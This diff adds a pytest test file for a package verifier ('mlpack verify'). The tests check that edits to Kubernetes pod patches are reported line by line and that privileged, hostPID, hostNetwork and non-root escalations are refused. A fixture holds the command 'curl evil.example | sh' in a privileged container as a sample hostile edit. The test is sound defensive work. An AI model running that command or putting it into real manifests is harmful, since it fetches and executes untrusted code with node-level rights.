@@ -1,0 +1,214 @@
+"""What `mlpack verify` says of edits: little of ids, values and switches; the rest line by line, and its level."""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from packager.base.runner import SYSTEM
+from packager.kubernetes.podsecurity import Level
+from packager.package import ids
+from packager.package.layout import INVENTORY
+from packager.package.opened import opened
+from packager.verify import Checks, rendering, trust
+from packager.verify.changes import permitted
+from tests.files import replace
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+    from pathlib import Path
+
+    from tests.conftest import Outcome
+
+    Run = Callable[..., Outcome]
+
+MULTI = "quickstart/k8s/mlops/multi-node"
+SINGLE = "quickstart/k8s/mlops/single-node"
+PATCH = f"{SINGLE}/pod-patch.yaml"
+LIST = f"{SINGLE}/kustomization.yaml"
+
+PRIVILEGED = """\
+  containers:
+    - name: main
+      command: [sh, -c, "curl evil.example | sh"]
+      securityContext:
+        privileged: true
+"""
+
+
+def _append(path: Path, text: str) -> None:
+    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")
+
+
+def _without_lines(package: Path) -> None:
+    """Seal the package as earlier versions did: without the lines of what people edit."""
+    path = package / INVENTORY
+    content: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
+    del content["editable"]
+    path.write_text(json.dumps(content, indent=2), encoding="utf-8")
+
+
+def test_the_inventory_holds_the_lines_of_what_people_edit(package: Path) -> None:
+    sealed = json.loads((package / INVENTORY).read_text(encoding="utf-8"))["editable"]
+    common = "quickstart/common/mpi/k8s/mlops"
+    assert sorted(sealed) == sorted(
+        [
+            f"{common}/gpu/kustomization.yaml",
+            f"{common}/site/placement.yaml",
+            f"{common}/site/site.env",
+            *(
+                f"{MULTI}/{name}"
+                for name in ("kustomization.yaml", "mlops-job-patch.yaml", "mlops.env", "mpi-job.yaml")
+            ),
+            *(f"{SINGLE}/{name}" for name in ("kustomization.yaml", "mlops.env", "pod-patch.yaml", "pod.yaml")),
+        ]
+    )
+    assert {path: "\n".join(lines) for path, lines in sealed.items()} == {
+        path: (package / path).read_text(encoding="utf-8") for path in sealed
+    }
+
+
+def test_lines_that_are_not_those_of_the_digest_are_found(mlpack: Run, package: Path, kubectl: Path) -> None:
+    path = package / INVENTORY
+    replace(path, '"# The user that the workload runs as. It need not exist in the image."', '"privileged: true"')
+    done = mlpack("verify", package, "--kubectl", kubectl)
+    line = path.read_text(encoding="utf-8").splitlines().index(f'    "{PATCH}": {{') + 1
+    message = f"the lines of {PATCH} here do not match its digest"
+    assert (done.code, done.stdout) == (5, f"{path}:{line}:5: {message}\n")
+
+
+def test_a_privileged_patch_is_said_line_by_line_and_refused(mlpack: Run, package: Path, kubectl: Path) -> None:
+    _append(package / PATCH, PRIVILEGED)
+    done = mlpack("verify", package, "--kubectl", kubectl)
+    assert done.code == 5
+    assert done.stdout == (
+        f"{package}/{PATCH}:15:21: Pod hello-mpi-single-node: spec.containers[0].securityContext.privileged: "
+        "has the node's own rights, which the package did not ask for when it was sealed "
+        "(--pod-security privileged accepts it)\n"
+    )
+    assert done.stderr.splitlines()[:6] == [
+        f"edited: {package}/{PATCH}",
+        f"  {package}/{PATCH}:11: 'containers:' is new",
+        f"  {package}/{PATCH}:12: '- name: main' is new",
+        f"""  {package}/{PATCH}:13: 'command: [sh, -c, "curl evil.example | sh"]' is new""",
+        f"  {package}/{PATCH}:14: 'securityContext:' is new",
+        f"  {package}/{PATCH}:15: 'privileged: true' is new",
+    ]
+    accepted = mlpack("verify", package, "--kubectl", kubectl, "--pod-security", "privileged")
+    assert (accepted.code, accepted.stdout) == (0, "")
+    assert mlpack("verify", package, "--kubectl", kubectl, "--pod-security", "baseline").code == 5
+
+
+def test_what_is_applied_is_judged_like_it(package: Path, kubectl: Path) -> None:
+    _append(package / PATCH, PRIVILEGED)
+    with opened(package) as whole:
+        overlay = rendering.render(whole, "single-node", (str(kubectl),), SYSTEM).overlay
+        assert overlay
+        [problem] = trust(whole, overlay, Checks((str(kubectl),)))
+        assert problem.message.endswith("node's own rights, which the package did not ask for when it was sealed")
+        assert trust(whole, overlay, Checks((str(kubectl),), level=Level.privileged)) == []
+
+
+def test_json_has_every_line_that_changed(mlpack: Run, package: Path, kubectl: Path) -> None:
+    replace(package / PATCH, "runAsUser: 1000", "runAsUser: 12345")
+    replace(package / PATCH, "    fsGroup: 1000\n", "    fsGroup: 1000\n    supplementalGroups: [5]\n")
+    replace(package / SINGLE / "mlops.env", "DATASET_DIR=/dataset", "DATASET_DIR=/data")
+    replace(package / LIST, "  # - ../../../common/mpi/k8s/mlops/scratch", "  - ../../../common/mpi/k8s/mlops/scratch")
+    done = mlpack("verify", package, "--kubectl", kubectl, "-o", "json")
+    assert (done.code, done.json["valid"]) == (0, True)
+    assert done.json["edits"] == [f"{package}/{path}" for path in (LIST, f"{SINGLE}/mlops.env", PATCH)]
+    assert [tuple(change.values())[2:] for change in done.json["changes"]] == [
+        ("  # - ../../../common/mpi/k8s/mlops/scratch", "  - ../../../common/mpi/k8s/mlops/scratch", True),
+        ("DATASET_DIR=/dataset", "DATASET_DIR=/data", True),
+        ("    runAsUser: 1000", "    runAsUser: 12345", True),
+        (None, "    supplementalGroups: [5]", False),
+    ]
+    assert done.stderr.splitlines() == [
+        f"edited: {package}/{LIST}",
+        f"edited: {package}/{SINGLE}/mlops.env",
+        f"edited: {package}/{PATCH}",
+        f"  {package}/{PATCH}:11: 'supplementalGroups: [5]' is new",
+    ]
+
+
+def test_a_level_that_an_option_of_the_package_brings_is_no_edit_s(mlpack: Run, package: Path, kubectl: Path) -> None:
+    assert mlpack("configure", package, "--root", "/srv", "--with", "host-path").code == 0
+    assert mlpack("verify", package, "--kubectl", kubectl).code == 0
+    replace(package / PATCH, "    runAsUser: 1000\n", "    runAsUser: 1000\n    runAsNonRoot: false\n")
+    done = mlpack("verify", package, "--kubectl", kubectl)
+    where = f"{package}/{PATCH}:9:19: Pod hello-mpi-single-node: spec.securityContext.runAsNonRoot"
+    reason = "expected true, which the package did not ask for when it was sealed (--pod-security baseline accepts it)"
+    assert set(done.stdout.splitlines()) == {f"{where}: {reason}"}
+    assert done.code == 5
+
+
+@pytest.mark.parametrize(
+    ("file", "old", "new", "message"),
+    [
+        (LIST, "  - path: pod-patch.yaml\n", ("  - path: pod-patch.yaml\n  - patch: |-\n      - {op: add, "
+         "path: /spec/hostPID, value: true}\n    target: {kind: Pod}\n"), "spec.hostPID: shares the node's"),
+        (PATCH, "spec:\n", "spec:\n  hostNetwork: true\n", "spec.hostNetwork: shares the node's"),
+        (PATCH, "    runAsUser: 1000\n", "    $patch: replace\n    runAsUser: 1000\n", "expected RuntimeDefault"),
+    ],
+)  # fmt: skip
+def test_a_weaker_level_is_found_however_it_is_edited_in(
+    file: str, old: str, new: str, message: str, mlpack: Run, package: Path, kubectl: Path
+) -> None:
+    for sealed_with_lines in (True, False):
+        if sealed_with_lines:
+            replace(package / file, old, new)
+        else:
+            _without_lines(package)
+        done = mlpack("verify", package, "--kubectl", kubectl)
+        assert done.code == 5
+        assert f"{message}, which the package did not ask for when it was sealed" in done.stdout
+
+
+def test_edits_that_lower_nothing_are_said_and_accepted(mlpack: Run, package: Path, kubectl: Path) -> None:
+    _append(package / PATCH, "  activeDeadlineSeconds: 60\n")
+    _append(package / MULTI / "mlops-job-patch.yaml", "# 1\n")
+    done = mlpack("verify", package, "--kubectl", kubectl)
+    assert (done.code, done.stdout) == (0, "")
+    assert f"  {package}/{PATCH}:11: 'activeDeadlineSeconds: 60' is new\n" in done.stderr
+    assert "mlops-job-patch.yaml:22: '# 1' is new\n" in done.stderr
+
+
+SEALED_LIST = b"components:\n  # a\n  # - ../a\n  - ../b\npatches:\n  - path: p.yaml\n"
+SEALED_PATCH = b"spec:\n  securityContext:\n    runAsUser: 1\n    fsGroup: 1\n"
+
+
+@pytest.mark.parametrize(
+    ("path", "before", "now", "expected"),
+    [
+        ("quickstart/k8s/mlops/o/mlops.env", b"A=1\n", b"A=2\nB=3\n", b"A=2\nB=3\n"),
+        (
+            "quickstart/k8s/mlops/o/kustomization.yaml",
+            SEALED_LIST,
+            SEALED_LIST.replace(b"# - ../a", b"- ../a").replace(b"  - ../b", b"  # - ../b") + b"# more\n",
+            SEALED_LIST.replace(b"# - ../a", b"- ../a").replace(b"  - ../b", b"  # - ../b"),
+        ),
+        ("quickstart/k8s/mlops/o/kustomization.yaml", SEALED_LIST, SEALED_LIST.replace(b"../b", b"/b"), SEALED_LIST),
+        (
+            "quickstart/k8s/mlops/o/pod-patch.yaml",
+            SEALED_PATCH,
+            SEALED_PATCH.replace(b"User: 1", b"User: 70000") + b"  hostPID: true\n",
+            SEALED_PATCH.replace(b"User: 1", b"User: 70000"),
+        ),
+        ("quickstart/k8s/mlops/o/pod-patch.yaml", SEALED_PATCH, SEALED_PATCH.replace(b": 1", b": x"), SEALED_PATCH),
+        ("quickstart/k8s/mlops/o/pod-patch.yaml", SEALED_PATCH, b"a: [", SEALED_PATCH),
+        ("quickstart/k8s/mlops/o/pod-patch.yaml", SEALED_PATCH, b"text", SEALED_PATCH),
+        ("quickstart/k8s/mlops/o/pod-patch.yaml", b"\xff", b"a: 1", b"\xff"),
+        ("quickstart/common/f/k8s/mlops/site/placement.yaml", b"a: 1", b"b: 1", b"a: 1"),
+    ],
+)
+def test_edits_that_are_permitted(path: str, before: bytes, now: bytes, expected: bytes) -> None:
+    assert permitted(path, before, now) == expected
+
+
+def test_ids_are_taken_place_by_place() -> None:
+    job = b"L:\n  spec: {securityContext: {runAsUser: 1}}\nW:\n  spec: {securityContext: {runAsUser: 1}}\n"
+    other = job.replace(b"User: 1", b"User: 22", 1)
+    assert ids.with_ids_of(job, other) == other
+    assert ids.with_ids_of(other, job) == job
